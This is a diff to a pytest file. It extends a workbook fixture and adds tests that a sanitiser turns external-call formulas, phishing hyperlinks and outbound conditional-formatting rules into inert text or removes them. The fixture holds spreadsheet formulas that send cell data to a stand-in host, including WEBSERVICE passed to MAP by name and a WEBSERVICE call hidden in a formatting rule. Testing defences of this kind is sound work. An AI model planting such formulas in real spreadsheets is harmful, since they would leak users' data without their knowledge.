@@ -22,6 +22,9 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.styles import PatternFill
+from openpyxl.worksheet.hyperlink import Hyperlink
 from rich.console import Console
 
 from pipeline import api, safe, serials
@@ -593,6 +596,10 @@ def external_link_workbook(path: Path) -> Path:
     fac["J4"] = "=D2*2"
     fac["J5"] = '=WEBSERVICE("http://example.org/?"&A1)'
     fac["K2"].hyperlink = "http://example.org/phish"
+    fac["J6"] = '=MAP({"http://example.org/leak"},WEBSERVICE)'  # a function passed by its name alone
+    fac["K3"].hyperlink = Hyperlink(ref="K3", target="http://example.org/phish2", location="A1")
+    fac.conditional_formatting.add("K4", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://example.org/cf"))']))
+    fac.conditional_formatting.add("D2:D4", FormulaRule(formula=["D2>1000000"], fill=PatternFill("solid", "FFFF00")))
     buffer = io.BytesIO()
     wb.save(buffer)
     parts = odd_files.members(buffer.getvalue())
@@ -634,10 +641,13 @@ def test_annotated_copy_strips_external_links_dde_and_calls_out(tmp_path):
     assert not [name for name in parts if "externalLink" in name]
     everything = b"".join(parts.values())
     assert b"other.xlsx" not in everything and b'Target="http://example.org/phish"' not in everything
+    assert b'Target="http://example.org/phish2"' not in everything  # a link with a target and a location goes too
     fac = load_workbook(out)["Facilities"]
-    for ref in ("J2", "J3", "J5"):
+    for ref in ("J2", "J3", "J5", "J6"):
         assert fac[ref].data_type == "s" and fac[ref].quotePrefix, ref  # inert text, shown as typed
     assert fac["J4"].data_type == "f" and fac["J4"].value == "=D2*2"  # the focal point's own formula stays
+    rules = [rule.formula for cf in fac.conditional_formatting for rule in cf.rules]
+    assert rules == [["D2>1000000"]]  # the rule calling out went, the focal point's own stays
 
 
 # --- 9. a damaged database and a read-only folder get one plain line --------------------------
